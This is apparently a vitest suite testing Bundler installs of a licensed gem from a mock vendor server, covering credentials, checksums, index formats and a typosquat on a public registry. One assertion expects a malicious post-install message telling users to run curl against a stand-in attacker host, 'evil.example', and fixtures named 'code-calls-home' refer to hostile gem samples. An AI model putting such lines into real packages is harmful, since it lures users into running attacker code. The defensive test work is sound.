import { existsSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { hasClient, runClient } from '../client.js';
import type { MintedProject } from '../minted-project.js';
import { startRegistry } from '../registry-server.js';
import { temporaryFolder } from '../temporary-folder.js';
import { mintLicenseGem } from './license-gem.js';
import type { LicenseGemMistake } from './license-gem-mistakes.js';
import { mintLicenseIssuer } from './license-issuer.js';
import { bundleInstall, mintLicenseProject, type BundleInstallOptions } from './license-project.js';
import { startVendorServer, type VendorServer, type VendorServerOptions } from './vendor-server.js';

const id = '1000.42';
const token = mintLicenseIssuer().token('Acme Ltd');
const gem = mintLicenseGem({ id, token });
const credential = { user: 'acme', password: 'swordfish', name: 'first' };

type Went = Awaited<ReturnType<typeof bundleInstall>>;

interface Scene {
  readonly server?: VendorServerOptions;
  readonly install?: Partial<BundleInstallOptions>;
  readonly project?: (server: VendorServer) => MintedProject;
}

/** Starts the vendor's server, installs from it, and hands over how it went. */
async function scene<T>(
  { server: options = {}, install = {}, project }: Scene,
  look: (went: Went, server: VendorServer) => Promise<T>,
): Promise<T> {
  await using server = await startVendorServer({ gems: [gem], credentials: [credential], ...options });
  await using folder = await temporaryFolder();
  const checkout = project?.(server) ?? mintLicenseProject({ source: server.url, gem });
  const given = { folder: folder.path, project: checkout, credentials: 'acme:swordfish', ...install };
  return await look(await bundleInstall(given), server);
}

describe.skipIf(!hasClient('bundle'))('bundle install from a vendor’s server', () => {
  test('takes the right gem with the right credential, and the code reads the token', async () => {
    await scene({}, async ({ status, stderr, gemDir, projectFolder, env }, server) => {
      expect([status, stderr]).toEqual([0, '']);
      expect(await readFile(join(gemDir, 'cache', gem.fileName))).toEqual(Buffer.from(gem.bytes));
      expect(await readFile(join(gemDir, 'gems', `karafka-license-${id}`, 'lib', 'license.txt'), 'utf8')).toBe(
        `${token}\n`,
      );
      const program = 'require "karafka-license"; print Karafka::License.token, " ", Karafka::License.version';
      const said = await runClient('bundle', ['exec', 'ruby', '-e', program], { cwd: projectFolder, env });
      expect(said).toEqual({ status: 0, stdout: `${token} ${id}`, stderr: '' });
      const downloads = server.requests.filter(({ path }) => path === server.filePath('karafka-license', id));
      expect(downloads).toMatchObject([
        { status: 200, authorization: 'basic', credential: 'first', sha256: gem.sha256, fault: null },
      ]);
      expect(JSON.stringify(server.requests)).not.toContain('swordfish');
    });
  });

  test.each(['right', 'empty', 'absent'] as const)(
    'leaves a lockfile whose checksums are %s as it is',
    async (checksums) => {
      const project = (server: VendorServer) => mintLicenseProject({ source: server.url, gem, checksums });
      await scene({ project }, async ({ status, projectFolder }, server) => {
        expect(status).toBe(0);
        expect(await readFile(join(projectFolder, 'Gemfile.lock'), 'utf8')).toBe(project(server).text);
      });
    },
  );

  test('works with a server whose answers may be cached', async () => {
    const status = await scene({ server: { cacheable: true } }, (went) => Promise.resolve(went.status));
    expect(status).toBe(0);
  });

  test('runs the extension of a gem that has one, shows its message, refuses wrong checksums', async () => {
    const bad = (mistake: LicenseGemMistake) => {
      const gems = [mintLicenseGem({ id, token, mistake })];
      const project = ({ url: source }: VendorServer) => mintLicenseProject({ source, gem, locked: false });
      return { server: { gems }, project };
    };
    const ran = ({ gemDir }: Went) =>
      Promise.resolve(existsSync(join(gemDir, 'gems', `karafka-license-${id}`, 'ext', 'ran.txt')));
    expect(await scene(bad('extension'), ran)).toBe(true);
    const said = (went: Went) => Promise.resolve(went.stdout + went.stderr);
    expect(await scene(bad('post-install-message'), said)).toContain('Run curl https://evil.example/');
    expect(await scene(bad('wrong-checksums'), said)).toContain('checksum mismatch');
  });

  test.each(['no-checksums', 'compact', 'marshal'] as const)(
    'takes it from an index of the form %s',
    async (gemIndex) => {
      const status = await scene({ server: { gemIndex } }, ({ status, stderr }) => Promise.resolve([status, stderr]));
      expect(status).toEqual([0, '']);
    },
  );

  test('without a lockfile too, into GEM_HOME, and vendored', async () => {
    const project = (server: VendorServer) => mintLicenseProject({ source: server.url, gem, locked: false });
    const install = { layout: 'gem-home', vendorCache: true } as const;
    await scene({ project, install }, async ({ status, gemDir, vendorCache, projectFolder }) => {
      expect(status).toBe(0);
      expect(existsSync(join(gemDir, 'cache', gem.fileName))).toBe(true);
      expect(await readdir(vendorCache)).toEqual([gem.fileName]);
      const lock = await readFile(join(projectFolder, 'Gemfile.lock'), 'utf8');
      expect(lock).toContain(`  karafka-license (= ${id})!\n`);
    });
  });

  test('beside a public registry that holds a squat of the same name takes the vendor’s', async () => {
    const squat = mintLicenseGem({ id, token, mistake: 'code-calls-home' });
    await using registry = await startRegistry({ gems: [squat] });
    const project = (server: VendorServer) =>
      mintLicenseProject({ source: server.url, gem, publicSource: { remote: registry.url, gems: [] } });
    await scene({ project }, async ({ status, gemDir }) => {
      expect(status).toBe(0);
      expect(await readFile(join(gemDir, 'cache', gem.fileName))).toEqual(Buffer.from(gem.bytes));
    });
  });

  test('fails with a wrong password, an expired one, and a forbidden one', async () => {
    const failed = (scenery: Scene) =>
      scene(scenery, ({ status, gemDir }, { requests }) =>
        Promise.resolve([status === 0, existsSync(join(gemDir, 'cache', gem.fileName)), requests.at(-1)?.status]),
      );
    expect(await failed({ install: { credentials: 'acme:wrong' } })).toEqual([false, false, 401]);
    const expired = { ...credential, state: 'expired' } as const;
    expect(await failed({ server: { credentials: [expired] } })).toEqual([false, false, 401]);
    const forbidden = { ...credential, state: 'forbidden' } as const;
    expect(await failed({ server: { credentials: [forbidden] } })).toEqual([false, false, 403]);
  });

  test('refuses other bytes than the index states, and takes them where the index follows', async () => {
    const other = mintLicenseGem({ id, token, mistake: 'extra-file' });
    const publish = (index: 'new' | 'old') => (server: VendorServer) => {
      server.serve({ name: gem.name, version: id, bytes: other.bytes, index });
      return mintLicenseProject({ source: server.url, gem, checksums: 'absent' });
    };
    await scene({ project: publish('old') }, ({ status, stdout, stderr }) => {
      expect(status).not.toBe(0);
      expect(stdout + stderr).toContain('checksum');
      return Promise.resolve();
    });
    await scene({ project: publish('new') }, async ({ status, gemDir }) => {
      expect(status).toBe(0);
      expect(await readFile(join(gemDir, 'cache', gem.fileName))).toEqual(Buffer.from(other.bytes));
    });
  });
});
